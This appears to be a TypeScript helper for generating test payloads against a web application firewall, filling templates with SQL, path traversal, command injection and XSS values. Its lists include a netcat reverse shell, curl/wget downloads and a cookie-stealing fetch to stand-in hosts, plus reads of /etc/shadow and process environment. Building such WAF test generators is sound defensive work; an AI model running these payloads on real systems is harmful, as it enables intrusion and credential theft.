import type { Chance } from '../waf-requests.ts';

const FILLS: Readonly<Record<string, (pick: Chance) => string>> = {
  n: (pick) => String(1 + pick.below(9000)),
  d: (pick) => String(1 + pick.below(9)),
  s: (pick) => String(2 + pick.below(8)),
  port: (pick) => pick.of(['22', '80', '3306', '5432', '6379', '8080', '8500', '9200']),
  w: (pick) => pick.of(['abc', 'item', 'foo', 'test', 'qzx', 'data', 'report', 'k7']),
  col: (pick) => pick.of(['id', 'name', 'email', 'password', 'pass_hash', 'token', 'login']),
  tab: (pick) => pick.of(['users', 'accounts', 'admin', 'orders', 'members', 'app.customers', 'tbl_user']),
  host: (pick) => pick.of(['evil.example', 'a.attacker.example:8443', 'x7f3.example.net', 'files.example.org']),
  ip: (pick) => pick.of(['203.0.113.7', '198.51.100.23', '192.0.2.9']),
  nulls: (pick) => Array.from({ length: 1 + pick.below(8) }, (_, at) => pick.of(['NULL', String(at + 1)])).join(','),
  up: (pick) => '../'.repeat(2 + pick.below(9)),
  file: (pick) =>
    pick.of([
      'etc/passwd',
      'etc/shadow',
      'proc/self/environ',
      'windows/win.ini',
      'boot.ini',
      'etc/hosts',
      'var/log/apache2/access.log',
      'etc/issue',
    ]),
  cmd: (pick) =>
    pick.of([
      'id',
      'whoami',
      'cat /etc/passwd',
      'uname -a',
      'curl http://evil.example/x',
      'ls -la /',
      'ls',
      'sleep 5',
      'ping -c 3 198.51.100.23',
      'nc -e /bin/sh 203.0.113.7 4444',
      'wget evil.example/x',
      'echo vulnerable',
      'ifconfig',
      'type c:\\boot.ini',
      'dir',
      'env',
      'nslookup evil.example',
      'python3 -c "print(1)"',
      'ps -ef',
      'touch /tmp/x',
    ]),
  js: (pick) =>
    pick.of([
      'alert(1)',
      'confirm`1`',
      'prompt(document.domain)',
      "fetch('//evil.example/'+document.cookie)",
      'eval(name)',
      'top["al"+"ert"](1)',
      'alert(document.cookie)',
      'print()',
      "location='//evil.example'",
      'import(`//evil.example`)',
      'window.alert(1)',
      'x=alert;x(1)',
      'console.log(1)',
      "document.write('<b>')",
    ]),
};

/** A payload with every «…» of a template filled in. */
export function filled(template: string, pick: Chance): string {
  return template.replaceAll(/«(\w+)»/g, (_, name: string) => FILLS[name]?.(pick) ?? name);
}
